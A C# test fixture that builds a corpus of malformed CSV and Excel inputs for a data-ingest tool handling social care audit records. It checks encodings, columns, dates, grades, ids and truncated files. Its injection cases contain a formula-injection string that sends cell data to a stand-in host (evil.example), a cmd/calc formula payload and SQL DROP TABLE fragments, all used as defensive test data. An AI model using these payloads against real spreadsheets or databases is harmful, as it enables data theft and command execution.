using System.Text;
using QaAnalytics.Ingest.Cli;

namespace QaAnalytics.Tests.Ingest.Loading;

/// <summary>
/// One malformed input: the files dropped into an input folder (loaded on top of
/// <see cref="MalformedInputCorpus.Baseline"/>), what it tests, the exit code <c>qa-ingest load
/// --fail-on-rejects</c> must give, and how many data rows a person counts in its files.
/// </summary>
/// <param name="Name">Stable id of the case (the test's display name).</param>
/// <param name="Tests">What the case tests, in a sentence.</param>
/// <param name="ExitCode">0 loaded clean, 6 loaded with rejects, 3 refused as a whole (no data changed).</param>
/// <param name="RowsRead">Data rows in the files (header excluded), counted by hand; 0 when refused.</param>
/// <param name="Files">File name and its exact bytes.</param>
public sealed record CorpusCase(string Name, string Tests, int ExitCode, long RowsRead, IReadOnlyList<(string Name, byte[] Bytes)> Files)
{
    /// <summary>Text that must appear in the reject reasons (or, for a refused input, in the refusal).</summary>
    public string[] Mentions { get; init; } = [];

    /// <summary>Queries on the published snapshot and the value each must return afterwards.</summary>
    public (string Sql, object Expected)[] Checks { get; init; } = [];

    public override string ToString() => Name;
}

/// <summary>
/// The bad-input corpus (issue 5 §3), built by code so every byte is visible here: wrong
/// encodings, missing, extra and renamed columns, ambiguous and impossible dates, unknown grades,
/// duplicate ids, empty and header-only files, huge fields, truncated files, formula-injection
/// strings, SQL fragments and more. Child ids all start with <c>CHILD-</c> so a test can prove
/// that none reaches a reject.
/// </summary>
public static class MalformedInputCorpus
{
    public const string TeamsHeader = "la_code,team_id,team_name,service_area";
    public const string AuditsHeader = "audit_id,child_id,team_id,worker_id,auditor_id,audit_type,audit_date,overall_grade";
    public const string KpisHeader = "team_id,period,kpi_code,numerator,denominator,value";
    public const string ComplaintsHeader = "record_id,record_type,team_id,received_date,stage,responded_date,outcome,theme";

    /// <summary>The data already published when each case is loaded: two teams, three audits, two KPI rows, one complaint.</summary>
    public static IReadOnlyList<(string Name, byte[] Bytes)> Baseline { get; } =
    [
        ("teams.csv", Utf8(TeamsHeader, "938,T1,Assessment East,Assessment", "938,T2,Children in Care North,Children in Care")),
        ("audits.csv", Utf8(AuditsHeader, "A1,CHILD-0001,T1,W1,M1,case,2024-01-10,Good", "A2,CHILD-0002,T1,W1,M1,case,2024-01-11,Inadequate",
            "A3,CHILD-0003,T2,W2,M2,thematic,2024-02-01,Outstanding")),
        ("kpis.csv", Utf8(KpisHeader, "T1,2024-01,VISITS_IN_TIMESCALE,8,10,", "T2,2024-01,CASELOAD,,,17")),
        ("complaints.csv", Utf8(ComplaintsHeader, "R1,complaint,T1,2024-01-15,1,2024-01-25,upheld,Delay")),
    ];

    /// <summary>A 3 MB run of text: more than DuckDB's CSV reader takes on one line (2 MB).</summary>
    private static readonly string Huge = new('x', 3_000_000);

    /// <summary>A long but readable field (100,000 characters), under the reader's line limit.</summary>
    private static readonly string Long = string.Concat(Enumerable.Repeat("Requires improvement ", 5_000));

    public static IReadOnlyList<CorpusCase> Cases { get; } =
    [
        // ---- Encodings ------------------------------------------------------------------------
        new("utf16-le-bom", "teams.csv saved as 'Unicode text' (UTF-16 LE with BOM), which Excel offers beside CSV", ExitCodes.InputRefused, 0,
            [("teams.csv", Bytes(new UnicodeEncoding(false, true), TeamsHeader, "938,T3,Three,MASH"))]) { Mentions = ["UTF-16", "CSV UTF-8"] },
        new("utf16-be-bom", "audits.csv in UTF-16 big-endian with BOM", ExitCodes.InputRefused, 0,
            [("audits.csv", Bytes(new UnicodeEncoding(true, true), AuditsHeader, "B1,CHILD-0101,T1,W1,M1,case,2024-03-01,Good"))]) { Mentions = ["UTF-16"] },
        new("utf16-no-bom", "UTF-16 LE without a byte-order mark (NUL byte after every ASCII letter)", ExitCodes.InputRefused, 0,
            [("teams.csv", Bytes(new UnicodeEncoding(false, false), TeamsHeader, "938,T3,Three,MASH"))]) { Mentions = ["UTF-16"] },
        new("windows-1252", "Excel's plain 'CSV (Comma delimited)': Windows-1252 accents and curly quotes are decoded, not rejected", ExitCodes.Ok, 1,
            [("teams.csv", Bytes(CodePage1252(), TeamsHeader, "938,T3,Children’s Café – Équipe,MASH"))])
        {
            Checks = [("SELECT team_name FROM dim_team WHERE team_id = 'T3'", "Children’s Café – Équipe"),
                      ("SELECT encoding FROM ingest_runs WHERE file_name = 'teams.csv' ORDER BY run_id DESC LIMIT 1", "windows-1252")],
        },
        new("binary-file", "a PNG image renamed audits.csv", ExitCodes.InputRefused, 0,
            [("audits.csv", [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00, 0x01, 0x00])])
        { Mentions = ["not a text file"] },
        new("nul-in-field", "a NUL byte inside one field of an otherwise good UTF-8 file: never text, so the file is refused", ExitCodes.InputRefused, 0,
            [("teams.csv", Utf8(TeamsHeader, "938,T3,Thr\0ee,MASH", "938,T4,Four,MASH"))]) { Mentions = ["NUL byte (at byte 50)"] },
        new("utf8-bom-crlf-spaced-headers", "Excel's 'CSV UTF-8': a BOM, CRLF line ends and headers written as 'Team ID' and 'LA Code'", ExitCodes.Ok, 1,
            [("teams.csv", Encoding.UTF8.GetPreamble().Concat(Encoding.UTF8.GetBytes("LA Code,Team ID,Team Name,Service-Area\r\n938,T3,Three,MASH\r\n")).ToArray())])
        { Checks = [("SELECT count(*) FROM dim_team WHERE team_id = 'T3'", 1L)] },

        // ---- Columns --------------------------------------------------------------------------
        new("missing-required-column", "audits.csv without overall_grade", ExitCodes.InputRefused, 0,
            [("audits.csv", Utf8("audit_id,child_id,team_id,worker_id,auditor_id,audit_type,audit_date", "B1,CHILD-0101,T1,W1,M1,case,2024-03-01"))])
        { Mentions = ["required column(s) missing: overall_grade"] },
        new("renamed-columns", "audits.csv with 'Audit Ref' for audit_id and 'Grade' for overall_grade", ExitCodes.InputRefused, 0,
            [("audits.csv", Utf8("Audit Ref,child_id,team_id,worker_id,auditor_id,audit_type,audit_date,Grade", "B1,CHILD-0101,T1,W1,M1,case,2024-03-01,Good"))])
        { Mentions = ["audit_id", "overall_grade", "Audit Ref"] },
        new("extra-columns", "teams.csv with columns outside the contract, including a misspelt optional one", ExitCodes.Ok, 1,
            [("teams.csv", Utf8(TeamsHeader + ",notes,parent_team", "938,T3,Three,MASH,ring Ann,T1"))])
        { Checks = [("SELECT message FROM ingest_runs WHERE file_name = 'teams.csv' ORDER BY run_id DESC LIMIT 1", "column(s) not in the data contract, ignored: notes, parent_team")] },
        new("duplicate-header", "teams.csv with team_id twice: the first is read, the second named as ignored", ExitCodes.Ok, 1,
            [("teams.csv", Utf8(TeamsHeader + ",team_id", "938,T3,Three,MASH,T999"))])
        { Checks = [("SELECT count(*) FROM dim_team WHERE team_id = 'T3'", 1L), ("SELECT count(*) FROM dim_team WHERE team_id = 'T999'", 0L)] },
        new("sql-in-header", "a header holding SQL (quotes, a statement separator, a comment) is only a name", ExitCodes.Ok, 1,
            [("teams.csv", Utf8(TeamsHeader + ",\"x\"\"; DROP TABLE dim_team; --\",'); DROP TABLE fact_audit; --", "938,T3,Three,MASH,a,b"))])
        { Checks = [("SELECT count(*) FROM dim_team", 3L), ("SELECT count(*) FROM fact_audit", 3L)] },
        new("semicolon-delimited", "a European Excel export separated by semicolons", ExitCodes.InputRefused, 0,
            [("teams.csv", Utf8("la_code;team_id;team_name;service_area", "938;T3;Three;MASH"))]) { Mentions = ["semicolon", "comma"] },
        new("tab-delimited", "a tab-separated file named .csv", ExitCodes.InputRefused, 0,
            [("teams.csv", Utf8("la_code\tteam_id\tteam_name\tservice_area", "938\tT3\tThree\tMASH"))]) { Mentions = ["tab", "comma"] },
        new("ragged-rows", "rows with too many and too few fields beside a good one", ExitCodes.Rejects, 3,
            [("teams.csv", Utf8(TeamsHeader, "938,T3,Three,MASH,extra", "938,T4", "938,T5,Five,MASH"))])
        { Mentions = ["more fields than the header", "fewer fields than the header"], Checks = [("SELECT count(*) FROM dim_team WHERE team_id = 'T5'", 1L)] },
        new("only-commas", "a row of empty fields, as Excel leaves below a table", ExitCodes.Rejects, 1,
            [("teams.csv", Utf8(TeamsHeader, ",,,"))]) { Mentions = ["team_id is blank", "la_code is blank", "team_name is blank", "service_area is blank"] },

        // ---- Empty files ----------------------------------------------------------------------
        new("empty-file", "a zero-byte audits.csv", ExitCodes.InputRefused, 0, [("audits.csv", [])]) { Mentions = ["empty"] },
        new("header-only", "a header and no rows loads nothing and says so", ExitCodes.Ok, 0, [("audits.csv", Utf8(AuditsHeader))]),
        new("bom-only", "a file holding only a UTF-8 byte-order mark", ExitCodes.InputRefused, 0, [("teams.csv", [0xEF, 0xBB, 0xBF])])
        { Mentions = ["required column(s) missing"] },
        new("blank-lines-only", "a file of blank lines: there is no header row", ExitCodes.InputRefused, 0, [("teams.csv", "\r\n\r\n\r\n"u8.ToArray())])
        { Mentions = ["The first line is blank"] },
        new("no-input-files", "a folder holding only a file outside the contract", ExitCodes.InputRefused, 0, [("notes.txt", "not data"u8.ToArray())])
        { Mentions = ["no input files found"] },
        new("two-files-one-kind", "audits.csv beside audits.xlsx: which one is meant?", ExitCodes.InputRefused, 0,
            [("audits.csv", Utf8(AuditsHeader)), ("audits.xlsx", Xlsx(("audit_id", "B1")))]) { Mentions = ["keep one of them"] },
        new("corrupt-xlsx", "CSV text renamed teams.xlsx (not a workbook)", ExitCodes.InputRefused, 0,
            [("teams.xlsx", Utf8(TeamsHeader, "938,T3,Three,MASH"))]) { Mentions = ["cannot be read as an Excel workbook"] },

        // ---- Dates ----------------------------------------------------------------------------
        new("impossible-dates", "dates that do not exist: 31 February, 30 February in ISO, month 13, day 0", ExitCodes.Rejects, 4,
            [("audits.csv", Utf8(AuditsHeader, "B1,CHILD-0101,T1,W1,M1,case,31/02/2024,Good", "B2,CHILD-0102,T1,W1,M1,case,2024-02-30,Good",
                "B3,CHILD-0103,T1,W1,M1,case,2023-13-01,Good", "B4,CHILD-0104,T1,W1,M1,case,00/01/2024,Good"))])
        { Mentions = ["audit_date is not a real calendar date"] },
        new("us-order-dates", "12/25/2023 is US month/day order and never guessed", ExitCodes.Rejects, 1,
            [("audits.csv", Utf8(AuditsHeader, "B1,CHILD-0101,T1,W1,M1,case,12/25/2023,Good"))]) { Mentions = ["US month/day order"] },
        new("ambiguous-dates", "03/04/2024 is read as UK 3 April, never as 4 March", ExitCodes.Ok, 1,
            [("audits.csv", Utf8(AuditsHeader, "B1,CHILD-0101,T1,W1,M1,case,03/04/2024,Good"))])
        { Checks = [("SELECT CAST(audit_date AS VARCHAR) FROM fact_audit WHERE audit_id = 'B1'", "2024-04-03")] },
        new("dates-out-of-range-or-not-dates", "1899, 2031, two-digit years, an Excel serial number and words", ExitCodes.Rejects, 5,
            [("audits.csv", Utf8(AuditsHeader, "B1,CHILD-0101,T1,W1,M1,case,1899-12-31,Good", "B2,CHILD-0102,T1,W1,M1,case,2031-01-01,Good",
                "B3,CHILD-0103,T1,W1,M1,case,10/01/24,Good", "B4,CHILD-0104,T1,W1,M1,case,45123,Good", "B5,CHILD-0105,T1,W1,M1,case,last Tuesday,Good"))])
        { Mentions = ["outside the supported range", "is not a date; write dates as yyyy-mm-dd or dd/mm/yyyy"] },
        new("future-and-backwards-dates", "an audit in the future; moderation before the audit; a response before receipt", ExitCodes.Rejects, 3,
            [("audits.csv", Utf8(AuditsHeader + ",moderated_grade,moderation_date", "B1,CHILD-0101,T1,W1,M1,case,2030-06-01,Good,,",
                "B2,CHILD-0102,T1,W1,M1,case,2024-03-10,Good,Good,2024-03-01")),
             ("complaints.csv", Utf8(ComplaintsHeader, "R9,complaint,T1,2024-03-10,1,2024-03-01,upheld,Delay"))])
        { Mentions = ["audit_date is in the future", "moderation_date is before audit_date", "responded_date is before received_date"] },
        new("dates-with-times", "Excel date-times (midnight, ISO with a T, a time of day) keep their date, never the next day", ExitCodes.Ok, 3,
            [("audits.csv", Utf8(AuditsHeader, "B1,CHILD-0101,T1,W1,M1,case,15/01/2024 00:00,Good", "B2,CHILD-0102,T1,W1,M1,case,2024-01-15T23:30:00,Good",
                "B3,CHILD-0103,T1,W1,M1,case,15/01/2024 23:59,Good"))])
        { Checks = [("SELECT count(*) FROM fact_audit WHERE audit_id LIKE 'B%' AND audit_date = DATE '2024-01-15'", 3L)] },

        // ---- Grades and codes -----------------------------------------------------------------
        new("unknown-grades", "grades outside Ofsted's scale: Satisfactory, 5, 0, Adequate, Goood", ExitCodes.Rejects, 5,
            [("audits.csv", Utf8(AuditsHeader, "B1,CHILD-0101,T1,W1,M1,case,2024-03-01,Satisfactory", "B2,CHILD-0102,T1,W1,M1,case,2024-03-01,5",
                "B3,CHILD-0103,T1,W1,M1,case,2024-03-01,0", "B4,CHILD-0104,T1,W1,M1,case,2024-03-01,Adequate", "B5,CHILD-0105,T1,W1,M1,case,2024-03-01,Goood"))])
        { Mentions = ["overall_grade is not a grade; use"] },
        new("grade-spellings", "accepted spellings in odd case and punctuation load as the right grade", ExitCodes.Ok, 3,
            [("audits.csv", Utf8(AuditsHeader, "B1,CHILD-0101,T1,W1,M1,CASE,2024-03-01,  r.i. ", "B2,CHILD-0102,T1,W1,M1,Case Audit,2024-03-01,REQUIRES IMPROVEMENT TO BE GOOD",
                "B3,CHILD-0103,T1,W1,M1,re audit,2024-03-01,4"))])
        { Checks = [("SELECT string_agg(CAST(overall_grade AS VARCHAR), ',' ORDER BY audit_id) FROM fact_audit WHERE audit_id LIKE 'B%'", "3,3,4")] },
        new("bad-kpi-figures", "numerator over denominator, negative, decimal, 20-digit, percent over 100, unknown code, month 13", ExitCodes.Rejects, 7,
            [("kpis.csv", Utf8(KpisHeader, "T1,2024-02,VISITS_IN_TIMESCALE,12,10,", "T1,2024-03,VISITS_IN_TIMESCALE,-1,10,",
                "T1,2024-04,VISITS_IN_TIMESCALE,2.5,10,", "T1,2024-05,VISITS_IN_TIMESCALE,1,99999999999999999999,", "T1,2024-02,AGENCY_RATE,,,120%",
                "T1,2024-02,NOT_A_KPI,1,2,", "T1,2024-13,CASELOAD,,,12"))])
        { Mentions = ["is larger than denominator", "numerator must be a whole number", "denominator must be a whole number", "cannot exceed 100", "not in the KPI catalogue", "period must be a month"] },
        new("bad-complaints", "a complaint without a stage, a compliment with one, an unknown type and outcome", ExitCodes.Rejects, 4,
            [("complaints.csv", Utf8(ComplaintsHeader, "R2,complaint,T1,2024-03-01,,,,", "R3,compliment,T1,2024-03-01,1,,,", "R4,grumble,T1,2024-03-01,,,,",
                "R5,complaint,T1,2024-03-01,Stage 9,,maybe,"))])
        { Mentions = ["a complaint needs its stage", "only complaints have a stage", "record_type must be", "stage must be 1, 2, 3 or LGSCO", "outcome must be"] },
        new("reaudit-and-parent-loops", "an audit that re-audits itself and a team that is its own parent", ExitCodes.Rejects, 2,
            [("teams.csv", Utf8(TeamsHeader + ",parent_team_id", "938,T3,Three,MASH,T3")),
             ("audits.csv", Utf8(AuditsHeader + ",reaudit_of", "B1,CHILD-0101,T1,W1,M1,re-audit,2024-03-01,Good,B1"))])
        { Mentions = ["parent_team_id", "reaudit_of"] },

        // ---- Ids ------------------------------------------------------------------------------
        new("duplicate-ids", "the same audit_id three times and the same team twice", ExitCodes.Rejects, 5,
            [("teams.csv", Utf8(TeamsHeader, "938,T3,Three,MASH", "938,T3,Three again,MASH")),
             ("audits.csv", Utf8(AuditsHeader, "B1,CHILD-0101,T1,W1,M1,case,2024-03-01,Good", "B1,CHILD-0102,T1,W1,M1,case,2024-03-02,Good",
                "B1,CHILD-0103,T1,W1,M1,case,2024-03-03,Good"))])
        { Mentions = ["already appears on line 2"], Checks = [("SELECT CAST(audit_date AS VARCHAR) FROM fact_audit WHERE audit_id = 'B1'", "2024-03-01")] },
        new("blank-and-unknown-ids", "blank and whitespace ids, a child id missing, an unknown team and one with a zero-width space", ExitCodes.Rejects, 4,
            [("audits.csv", Utf8(AuditsHeader, ",CHILD-0101,T1,W1,M1,case,2024-03-01,Good", "B2,   ,T1,W1,M1,case,2024-03-01,Good",
                "B3,CHILD-0103,T9,W1,M1,case,2024-03-01,Good", "B4,CHILD-0104,T1\u200B,W1,M1,case,2024-03-01,Good"))])
        { Mentions = ["audit_id is blank", "child_id is blank", "team_id T9 is not in teams.csv"] },
        new("existing-key-replaced", "a later file with a baseline key replaces it; the count does not double", ExitCodes.Ok, 1,
            [("audits.csv", Utf8(AuditsHeader, "A1,CHILD-0001,T1,W1,M1,case,2024-01-10,Requires Improvement"))])
        { Checks = [("SELECT count(*) FROM fact_audit WHERE audit_id = 'A1'", 1L), ("SELECT overall_grade FROM fact_audit WHERE audit_id = 'A1'", 3)] },

        // ---- Size and truncation --------------------------------------------------------------
        new("huge-field", "one 3 MB field, longer than a CSV line may be, between good rows", ExitCodes.Rejects, 3,
            [("teams.csv", Utf8(TeamsHeader, "938,T3,Three,MASH", $"938,T4,{Huge},MASH", "938,T5,Five,MASH"))])
        { Mentions = ["longer than the reader allows"], Checks = [("SELECT count(*) FROM dim_team WHERE team_id IN ('T3', 'T5')", 2L)] },
        new("long-field", "a 100,000-character grade is rejected with its value kept for the person fixing it", ExitCodes.Rejects, 1,
            [("audits.csv", Utf8(AuditsHeader, $"B1,CHILD-0101,T1,W1,M1,case,2024-03-01,{Long}"))]) { Mentions = ["overall_grade is not a grade"] },
        new("truncated-in-quotes", "a file cut off inside a quoted field, with no final line break", ExitCodes.Rejects, 2,
            [("teams.csv", Encoding.UTF8.GetBytes(TeamsHeader + "\n938,T3,Three,MASH\n938,T4,\"Four and a ha"))])
        { Mentions = ["double quote is not closed"], Checks = [("SELECT count(*) FROM dim_team WHERE team_id = 'T3'", 1L)] },
        new("truncated-mid-row", "a file cut off part-way through its last row", ExitCodes.Rejects, 2,
            [("audits.csv", Encoding.UTF8.GetBytes(AuditsHeader + "\nB1,CHILD-0101,T1,W1,M1,case,2024-03-01,Good\nB2,CHILD-0102,T1,W"))])
        { Mentions = ["fewer fields than the header"] },
        new("cr-only-line-ends", "classic Mac line ends (CR only): one line to a reader, so no row can be split", ExitCodes.InputRefused, 0,
            [("teams.csv", Encoding.UTF8.GetBytes(TeamsHeader + "\r938,T3,Three,MASH\r"))]) { Mentions = ["carriage return only"] },
        new("cr-only-audits", "CR-only line ends in audits.csv: the refusal quotes the header, never the child ids that follow it", ExitCodes.InputRefused, 0,
            [("audits.csv", Encoding.UTF8.GetBytes(AuditsHeader + "\rB1,CHILD-0101,T1,W1,M1,case,2024-03-01,Good\r"))])
        { Mentions = ["carriage return only", "does not end at the end of its line: audit_id, child_id"] },
        new("cr-only-optional-last-column", "CR-only line ends where the header's last column is optional: the child ids that follow are not listed as ignored columns", ExitCodes.InputRefused, 0,
            [("audits.csv", Encoding.UTF8.GetBytes(AuditsHeader + ",reaudit_of\rB1,CHILD-0101,T1,W1,M1,case,2024-03-01,Good,\r"))])
        { Mentions = ["carriage return only"] },
        new("unclosed-quote-in-header", "a header whose quote never closes swallows the file: the refusal shows its first line only", ExitCodes.InputRefused, 0,
            [("audits.csv", Utf8("\"audit_id," + AuditsHeader[9..], "B1,CHILD-0101,T1,W1,M1,case,2024-03-01,Good"))])
        { Mentions = ["double quote in it is never closed"] },

        // ---- Injection ------------------------------------------------------------------------
        new("formula-injection", "spreadsheet formulas in free text load as text; in coded fields they are rejected with the value kept", ExitCodes.Rejects, 5,
            [("teams.csv", Utf8(TeamsHeader, "938,T3,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\",MASH")),
             ("audits.csv", Utf8(AuditsHeader, "B1,CHILD-0101,T1,W1,M1,+cmd|' /C calc'!A0,2024-03-01,Good", "B2,CHILD-0102,T1,W1,M1,case,2024-03-01,=1+1",
                "B3,CHILD-0103,T1,W1,M1,case,2024-03-01,-2+3", "B4,CHILD-0104,T1,W1,M1,case,2024-03-01,@SUM(1+1)"))])
        {
            Mentions = ["audit_type must be", "overall_grade is not a grade"],
            Checks = [("SELECT team_name FROM dim_team WHERE team_id = 'T3'", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")"),
                      ("SELECT count(*) FROM ingest_rejects WHERE value IN ('+cmd|'' /C calc''!A0', '=1+1', '-2+3', '@SUM(1+1)')", 4L)],
        },
        new("sql-fragments", "SQL in values is data: stored or rejected as text, never run", ExitCodes.Rejects, 3,
            [("teams.csv", Utf8(TeamsHeader, "938,\"T3'; DROP TABLE fact_audit; --\",Robert'); DROP TABLE dim_team;--,MASH")),
             ("kpis.csv", Utf8(KpisHeader, "T1,2024-02,VISITS_IN_TIMESCALE' OR '1'='1,1,2,", "T1,2024-02,CASELOAD,,,1; DELETE FROM fact_kpi"))])
        {
            Mentions = ["not in the KPI catalogue", "value must be a number"],
            Checks = [("SELECT count(*) FROM fact_audit", 3L), ("SELECT count(*) FROM fact_kpi", 2L),
                      ("SELECT team_name FROM dim_team WHERE team_id = 'T3''; DROP TABLE fact_audit; --'", "Robert'); DROP TABLE dim_team;--")],
        },
        new("control-characters", "a bell after a code is punctuation to the spelling rules; a line break and an escape inside a grade are not", ExitCodes.Rejects, 2,
            [("audits.csv", Utf8(AuditsHeader, "B1,CHILD-0101,T1,W1,M1,case\u0007,2024-03-01,Good", "B2,CHILD-0102,T1,W1,M1,case,2024-03-01,\"Go\nod\u001b\""))])
        { Mentions = ["overall_grade is not a grade"], Checks = [("SELECT audit_type FROM fact_audit WHERE audit_id = 'B1'", "case")] },
    ];

    public static IEnumerable<object[]> Names => Cases.Select(c => new object[] { c.Name });

    public static CorpusCase Get(string name) => Cases.Single(c => c.Name == name);

    private static byte[] Utf8(params string[] lines) => Bytes(new UTF8Encoding(false), lines);

    private static byte[] Bytes(Encoding encoding, params string[] lines) =>
        encoding.GetPreamble().Concat(encoding.GetBytes(string.Join("\n", lines) + "\n")).ToArray();

    private static Encoding CodePage1252()
    {
        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        return Encoding.GetEncoding(1252);
    }

    private static byte[] Xlsx(params (string Column, object Value)[] cells)
    {
        using var stream = new MemoryStream();
        MiniExcelLibs.MiniExcel.SaveAs(stream, new[] { cells.ToDictionary(c => c.Column, c => (object?)c.Value) });
        return stream.ToArray();
    }
}
